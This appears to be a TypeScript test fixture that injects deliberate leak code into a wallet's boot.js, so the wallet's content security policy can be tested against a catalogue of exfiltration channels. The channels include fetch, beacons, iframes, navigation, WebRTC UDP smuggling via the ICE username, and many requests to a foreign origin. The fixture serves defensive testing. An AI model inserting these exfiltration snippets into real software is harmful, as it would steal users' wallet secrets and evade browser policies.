// A wallet that leaks on purpose: the very build under test, with a few lines added to its `boot.js`. They wait until the
// unlocked wallet shows a card, take the first attribute from it and send it away, on the channels that the address
// names: `/?leak=beacon,image`.
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { WALLET_FILES } from './place.ts';

/** Where leaks are sent. */
export interface Sinks {
  /** An origin that is not the wallet's and answers everybody. */
  foreign: string;
  udpPort: number;
}

/** What the page's policy, and the rest of the browser, make of a channel. */
export type Fate =
  /** It gets out: the recorder must report it. */
  | 'sent'
  /** It is left behind in the browser: the search of what remains must report it. */
  | 'kept'
  /** The browser stops it: nothing must arrive. */
  | 'stopped';

interface Channel {
  fate: Fate;
  /** Whether it takes the page away or into the background, so that it needs a visit of its own. */
  leaves?: true;
  /** Runs in the page with `secret`, `own` and `foreign` (addresses of this channel), `udpPort` and `sendByWebRtc`. */
  script: string;
}

const append = (tag: string, attributes: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { ${attributes} }))`;

/** Every channel that we know of. */
export const CHANNELS: Record<string, Channel> = {
  // What the policy allows towards the wallet's own host, which serves files and learns what it is asked for.
  fetch: { fate: 'sent', script: `await fetch(own, { method: 'POST', body: btoa('xx' + secret) })` },
  header: { fate: 'sent', script: `await fetch(own, { headers: { 'x-y': secret } })` },
  image: { fate: 'sent', script: `new Image().src = own + '?' + encodeURIComponent(secret)` },
  beacon: { fate: 'sent', script: `navigator.sendBeacon(own, secret)` },
  compressed: {
    fate: 'sent',
    script: `await fetch(own, { method: 'POST', body: await new Response(new Blob([secret]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer() })`,
  },
  hashed: {
    fate: 'sent',
    script: `await fetch(own, { method: 'POST', body: await crypto.subtle.digest('SHA-256', new TextEncoder().encode(secret)) })`,
  },
  // What no policy of a page stops.
  frame: { fate: 'sent', script: append('iframe', `src: own + '?' + secret`) },
  courier: {
    fate: 'sent',
    script: `
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = '/courier.html';
      document.body.append(frame);
      await new Promise((loaded) => (frame.onload = loaded));
      const { port1, port2 } = new MessageChannel();
      const ready = new Promise((greeted) => (port1.onmessage = greeted));
      frame.contentWindow.postMessage(null, '*', [port2]);
      await ready;
      port1.postMessage({ id: 1, url: foreign, method: 'POST', headers: {}, body: secret, limit: 1 });`,
  },
  'webrtc-of-a-frame': {
    fate: 'sent',
    script: `
      const frame = document.createElement('iframe');
      document.body.append(frame);
      await sendByWebRtc(frame.contentWindow, udpPort, secret);`,
  },
  window: { fate: 'sent', leaves: true, script: `open(foreign + '?' + secret)` },
  navigation: { fate: 'sent', leaves: true, script: `location.href = foreign + '?' + secret` },
  fragment: { fate: 'sent', leaves: true, script: `location.href = foreign + '#' + secret` },
  refresh: {
    fate: 'sent',
    leaves: true,
    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + foreign + '?' + secret }))`,
  },
  // What is left behind.
  localStorage: { fate: 'kept', script: `localStorage.setItem('a', secret)` },
  cookie: { fate: 'kept', script: `document.cookie = 'a=' + secret` },
  cache: { fate: 'kept', script: `await (await caches.open('c')).put('/x', new Response(secret))` },
  title: { fate: 'kept', script: `document.title = secret` },
  state: { fate: 'kept', script: `history.replaceState({ a: secret }, '')` },
  name: { fate: 'kept', script: `window.name = secret` },
  console: { fate: 'kept', script: `console.debug({ deep: [secret] })` },
  // What the policy stops.
  'foreign-fetch': { fate: 'stopped', script: `await fetch(foreign, { method: 'POST', mode: 'no-cors', body: secret })` },
  'foreign-beacon': { fate: 'stopped', script: `navigator.sendBeacon(foreign, secret)` },
  'foreign-image': { fate: 'stopped', script: `new Image().src = foreign + '?' + secret` },
  'foreign-style': { fate: 'stopped', script: `document.body.style.backgroundImage = 'url(' + foreign + '?' + secret + ')'` },
  'foreign-sheet': { fate: 'stopped', script: append('link', `rel: 'stylesheet', href: foreign + '?' + secret`) },
  'foreign-font': { fate: 'stopped', script: `await new FontFace('x', 'url(' + foreign + '?' + secret + ')').load()` },
  'foreign-video': { fate: 'stopped', script: append('video', `src: foreign + '?' + secret`) },
  'foreign-frame': { fate: 'stopped', script: append('iframe', `src: foreign + '?' + secret`) },
  'foreign-object': { fate: 'stopped', script: append('object', `data: foreign + '?' + secret`) },
  'foreign-script': { fate: 'stopped', script: append('script', `src: foreign + '?' + secret`) },
  'foreign-worker': { fate: 'stopped', script: `new Worker(foreign + '?' + secret)` },
  'foreign-import': { fate: 'stopped', script: `await import(foreign + '?' + secret)` },
  'foreign-prefetch': { fate: 'stopped', script: append('link', `rel: 'prefetch', href: foreign + '?' + secret`) },
  'foreign-preload': { fate: 'stopped', script: append('link', `rel: 'preload', as: 'image', href: foreign + '?' + secret`) },
  'foreign-events': { fate: 'stopped', script: `new EventSource(foreign + '?' + secret)` },
  'foreign-socket': { fate: 'stopped', script: `new WebSocket(foreign.replace('http', 'ws') + '?' + secret)` },
  'blob-worker': {
    fate: 'stopped',
    script: `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(foreign + '?' + secret) + ')'])))`,
  },
  ping: {
    fate: 'stopped',
    script: `
      const link = Object.assign(document.createElement('a'), { href: '#/', ping: foreign + '?' + secret });
      document.body.append(link);
      link.click();`,
  },
  form: {
    fate: 'stopped',
    script: `
      const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post' });
      form.append(Object.assign(document.createElement('input'), { name: 'a', value: secret }));
      document.body.append(form);
      form.submit();`,
  },
  webrtc: { fate: 'stopped', script: `await sendByWebRtc(window, udpPort, secret)` },
};

/** Lays out a copy of the build that leaks; returns its folder and what removes it. */
export async function leakyWallet({ foreign, udpPort }: Sinks): Promise<{ folder: string; remove: () => Promise<void> }> {
  const folder = await mkdtemp(join(tmpdir(), 'glimpse-leaky-'));
  await cp(WALLET_FILES, folder, { recursive: true });
  // The compressed form beside it would be served in its place.
  await rm(join(folder, 'boot.js.br'), { force: true });
  const boot = join(folder, 'boot.js');
  const cases = Object.entries(CHANNELS).map(([name, { script }]) => `'${name}': async (own, foreign) => {${script}},`);
  await writeFile(
    boot,
    `${await readFile(boot, 'utf8')}
    ${sendByWebRtc}
    const udpPort = ${udpPort};
    const wanted = new URL(location.href).searchParams.get('leak')?.split(',') ?? [];
    let secret;
    const leaks = {${cases.join('\n')}};
    const watch = new MutationObserver(async () => {
      secret = document.querySelector('[data-testid=card-fields] dd')?.textContent;
      if (!secret) return;
      watch.disconnect();
      for (const name of wanted) {
        // A stopped channel throws, or is refused later; the next one goes on.
        await leaks[name]('/take/' + name, ${JSON.stringify(foreign)} + '/take/' + name).catch(() => {});
        document.documentElement.dataset.leaked = name;
      }
    });
    if (wanted.length > 0) watch.observe(document.documentElement, { childList: true, subtree: true });`,
  );
  return { folder, remove: () => rm(folder, { recursive: true, force: true }) };
}

/** Sends `secret` as the name of a WebRTC peer: connectivity checks carry it in UDP datagrams. Runs in a page. */
export async function sendByWebRtc(realm: any, udpPort: number, secret: string): Promise<void> {
  const connection = new realm.RTCPeerConnection();
  connection.createDataChannel('x');
  const offer = await connection.createOffer();
  await connection.setLocalDescription(offer);
  const [fingerprint] = /a=fingerprint:.*/.exec(offer.sdp) ?? [];
  const lines = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0']
    .concat(['m=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', `a=ice-ufrag:${secret}`])
    .concat(['a=ice-pwd:abcdefghijklmnopqrstuvwx', fingerprint ?? '', 'a=setup:active', 'a=mid:0', 'a=sctp-port:5000'])
    .concat([`a=candidate:1 1 udp 2113937151 127.0.0.1 ${udpPort} typ host`, '']);
  await connection.setRemoteDescription({ type: 'answer', sdp: lines.join('\r\n') });
}
